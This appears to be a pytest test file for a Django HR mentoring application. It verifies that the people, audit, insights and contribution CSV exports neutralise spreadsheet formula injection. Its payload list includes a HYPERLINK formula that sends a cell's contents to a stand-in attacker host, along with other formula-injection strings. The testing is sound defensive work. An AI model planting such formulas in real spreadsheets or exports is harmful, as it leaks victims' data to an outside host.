"""Every CSV export neutralises spreadsheet formulas (cells starting with = + - @, tab or CR).

Each export is fed values an attacker controls (names, titles, departments from the HRIS
file, audit data, program names) that start with a formula character, then parsed back:
no cell may start with a formula character unless it is a plain negative number, and the
planted values come out with the neutralising leading quote.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from conftest import make_person
from mentorwise.core.audit import audit_record
from mentorwise.core.csv import csv_safe
from mentorwise.people.management.commands.export_people import write_people_csv
from mentorwise.people.models import Person
from mentorwise.programs.models import Program

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_formula_safe(text: str, planted: list[str] | None = None) -> None:
    dangerous = [c for c in cells(text) if c.startswith(FORMULA_START) and not _is_number(c)]
    assert dangerous == [], f"cells a spreadsheet would evaluate: {dangerous}"
    for value in planted or []:
        assert any(("'" + value) in c for c in cells(text)), f"{value!r} missing from export"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_safe_quotes_every_formula_start(payload: str) -> None:
    assert csv_safe(payload) == "'" + payload


@pytest.mark.parametrize("number", ["-1", "-2.5", "-0", "12", "1e3"])
def test_csv_safe_keeps_numbers(number: str) -> None:
    assert csv_safe(number) == number


def _plant_people() -> list[Person]:
    return [
        make_person(
            first_name=payload,
            last_name=payload,
            title=payload,
            department=payload,
            function=payload,
            location=payload,
        )
        for payload in PAYLOADS
    ]


def test_people_export(db: None) -> None:
    _plant_people()
    out = io.StringIO()
    write_people_csv(out)
    # Line breaks inside cells are written as "\n" (see the test below).
    assert_formula_safe(out.getvalue(), planted=[p.replace("\r", "\n") for p in PAYLOADS])


def test_audit_export(hr_admin: Any) -> None:
    person = _plant_people()[0]
    for payload in PAYLOADS:
        audit_record(actor=hr_admin, action="person.read", target=person, data={"q": payload})
    client = Client()
    client.force_login(hr_admin)
    response = client.get("/audit/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_formula_safe(response.content.decode(), planted=[PAYLOADS[0]])


@pytest.fixture
def planted_program(program: Program, mentee: Any, mentor: Any) -> Program:
    """A program whose name, and its people's departments and names, are formulas."""
    Program.objects.filter(pk=program.pk).update(name=PAYLOADS[0])
    Person.objects.filter(pk__in=[mentee.person_id, mentor.person_id]).update(
        department=PAYLOADS[1], function=PAYLOADS[3], location=PAYLOADS[2]
    )
    program.refresh_from_db()
    return program


@pytest.mark.parametrize(
    "path",
    [
        "/insights/programs/{slug}/health.csv",
        "/insights/programs/{slug}/activity.csv",
        "/insights/programs/{slug}/equity.csv",
        "/insights/programs/{slug}/outcomes.csv",
        "/insights/pipeline.csv",
    ],
)
def test_insights_exports(planted_program: Program, hr_admin: Any, path: str) -> None:
    client = Client()
    client.force_login(hr_admin)
    response = client.get(path.format(slug=planted_program.slug))
    assert response.status_code == 200, path
    assert response["Content-Type"].startswith("text/csv")
    assert_formula_safe(response.content.decode())


def test_contribution_record_export(mentee: Any, mentor: Any, hr_admin: Any) -> None:
    from mentorwise.relationships.tests.factories import started_relationship

    started_relationship(mentee, mentor)
    Person.objects.filter(pk=mentor.person_id).update(
        first_name=PAYLOADS[0], last_name="x", employee_id=PAYLOADS[3]
    )
    client = Client()
    client.force_login(hr_admin)
    response = client.get(f"/relationships/recognition/{mentor.person_id}/contribution.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert_formula_safe(response.content.decode(), planted=[PAYLOADS[3]])
    assert any(c.startswith("'" + PAYLOADS[0]) for c in cells(response.content.decode()))


def test_people_export_keeps_one_row_per_person_with_line_breaks_in_cells(db: None) -> None:
    make_person(first_name="A\rB", last_name="C\r\nD", title="E\nF")
    out = io.StringIO()
    write_people_csv(out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(rows) == 2
    assert "A\nB" in rows[1] and "C\nD" in rows[1] and "E\nF" in rows[1]
